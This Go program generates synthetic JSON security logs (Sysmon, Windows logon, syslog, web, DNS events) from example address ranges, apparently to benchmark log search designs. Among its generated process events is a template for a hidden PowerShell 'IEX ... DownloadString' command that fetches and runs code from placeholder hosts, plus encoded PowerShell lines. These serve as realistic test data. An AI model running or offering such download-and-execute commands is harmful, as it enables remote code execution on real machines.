package main

import (
	"bufio"
	"fmt"
	"math"
	"math/rand/v2"
	"os"
	"time"
)

// The made-up month; names and addresses are from ranges reserved for examples.
var start = time.Date(2026, 1, 5, 0, 0, 0, 0, time.UTC)

const (
	span       = 30 * 24 * time.Hour
	seed       = 20260303
	rareTokens = 16 // each stands in rareHits events
	rareHits   = 10
)

// generator writes event i as a function of (seed, i, n) alone.
type generator struct {
	*rand.Rand
	pcg *rand.PCG
	n   int
}

// zipf draws 0 … n-1 so that the k-th is about 1/k as frequent as the first.
func (g *generator) zipf(n int) int { return int(math.Pow(float64(n+1), g.Float64())) - 1 }

func (g *generator) pick(of ...string) string { return of[g.IntN(len(of))] }

func (g *generator) ip() string {
	return fmt.Sprintf("10.%d.%d.%d", g.IntN(8), g.IntN(256), g.IntN(256))
}

func hostName(rank int) string { return fmt.Sprintf("ws-%03d", rank) }

func rareToken(k int) string { return fmt.Sprintf("zqmark%02d", k) }

func stampOf(t time.Time) string { return t.Format("2006-01-02T15:04:05.0000000Z") }

// mark is the rare token that stands in event i, "" in nearly all.
func (g *generator) mark(i int) string {
	stride := g.n / (rareTokens * rareHits)
	if k := i / stride; i%stride == stride/2 && k < rareTokens*rareHits {
		return " " + rareToken(k%rareTokens)
	}
	return ""
}

// line is event i. "@timestamp" comes first, so that lines sort as text, and the name comes first in host, user and
// process, which spares grep a parser.
func (g *generator) line(i int) string {
	g.pcg.Seed(seed, uint64(i))
	at := start.Add(time.Duration(float64(span)*float64(i)/float64(g.n)) + time.Duration(g.Int64N(int64(2*time.Second)))).Truncate(100)
	mark, host, user := g.mark(i), hostName(g.zipf(400)), fmt.Sprintf("user%04d", g.zipf(1500))
	head := func(provider string, code int) string {
		return fmt.Sprintf(`{"@timestamp":"%s","event":{"provider":"%s","code":"%d","sequence":%d},"host":{"name":"%s"},`, stampOf(at), provider, code, i, host)
	}
	switch p := g.IntN(100); {
	case p < 30:
		image, command := g.command()
		return head("sysmon", 1) + fmt.Sprintf(`"user":{"name":"%s","domain":"FERRY"},"process":{"name":"%s","executable":"C:\\Windows\\System32\\%s","command_line":"%s%s",`+
			`"pid":%d,"entity_id":"{%08x-%04x-%04x-%04x-%012x}","hash":{"sha1":"%016x%016x%08x"},"parent":{"name":"%s","pid":%d}},"message":"Process Create"}`,
			user, image, image, command, mark, g.IntN(65536), g.Uint32(), g.IntN(65536), g.IntN(65536), g.IntN(65536), g.Uint64()>>16,
			g.Uint64(), g.Uint64(), g.Uint32(), g.pick("explorer.exe", "services.exe", "svchost.exe", "cmd.exe"), g.IntN(65536))
	case p < 52:
		code := []int{4624, 4624, 4624, 4634, 4672, 4625, 4768, 5140}[g.IntN(8)]
		return head("security", code) + fmt.Sprintf(`"user":{"name":"%s","domain":"FERRY"},"source":{"ip":"%s","port":%d},"winlog":{"event_data":{"LogonType":"%d",`+
			`"TargetLogonId":"0x%x","AuthenticationPackageName":"%s","WorkstationName":"%s"},"record_id":%d},"message":"An account event of type %d%s"}`,
			user, g.ip(), 1024+g.IntN(64000), 2+g.IntN(9), g.Uint32(), g.pick("Kerberos", "NTLM", "Negotiate"), hostName(g.zipf(400)), i, code, mark)
	case p < 68:
		return head("syslog", 0) + fmt.Sprintf(`"user":{"name":"%s"},"process":{"name":"%s","pid":%d},"message":"%s for %s from %s port %d ssh2%s"}`,
			user, g.pick("sshd", "sudo", "cron", "systemd"), g.IntN(65536), g.pick("Accepted publickey", "Failed password", "session opened"), user, g.ip(), 1024+g.IntN(64000), mark)
	case p < 85:
		return head("web", 0) + fmt.Sprintf(`"source":{"ip":"198.51.100.%d"},"url":{"original":"/app/%s/%d?s=%08x%s"},"http":{"response":{"status_code":%d,"bytes":%d}},"user_agent":{"original":"Mozilla/5.0 (X11; rv:%d.0)"}}`,
			g.IntN(256), g.pick("book", "price", "quay", "crew"), g.zipf(4000), g.Uint32(), mark, []int{200, 200, 200, 304, 404, 500}[g.IntN(6)], g.IntN(90000), 90+g.IntN(40))
	}
	return head("dns", 22) + fmt.Sprintf(`"dns":{"question":{"name":"n%d.example","type":"%s"},"resolved_ip":["203.0.113.%d","203.0.113.%d"],"id":%d},"message":"query%s"}`,
		g.zipf(20000), g.pick("A", "AAAA", "TXT"), g.IntN(256), g.IntN(256), g.IntN(65536), mark)
}

// command gives an image and its command line, escaped for JSON.
func (g *generator) command() (image, line string) {
	image = fmt.Sprintf("tool%03d.exe", g.zipf(300))
	switch p := g.IntN(100); {
	case p < 2:
		return "powershell.exe", fmt.Sprintf(`powershell.exe -nop -w hidden IEX (New-Object Net.WebClient).%s('http://dl%02d.example/%08x')`,
			g.pick("DownloadString", "downloadstring", "DOWNLOADSTRING"), g.IntN(40), g.Uint32())
	case p < 5:
		return "powershell.exe", fmt.Sprintf(`powershell.exe -enc %016x%016x%016x`, g.Uint64(), g.Uint64(), g.Uint64())
	case p < 9:
		return "PowerShell.exe", fmt.Sprintf(`\"C:\\Program Files\\Ops\\PowerShell.exe\" -File C:\\ops\\job%d.ps1`, g.zipf(4000))
	}
	return image, fmt.Sprintf(`\"C:\\Windows\\System32\\%s\" /run %d /path C:\\data\\p%d`, image, g.IntN(1000), g.zipf(4000))
}

// writeEvents makes the file that all designs read.
func writeEvents(path string, n int) {
	f := must(os.Create(path))
	w := bufio.NewWriterSize(f, 1<<20)
	pcg := rand.NewPCG(seed, 0)
	g := &generator{rand.New(pcg), pcg, n}
	for i := range n {
		w.WriteString(g.line(i) + "\n")
	}
	check(w.Flush())
	check(f.Close())
}
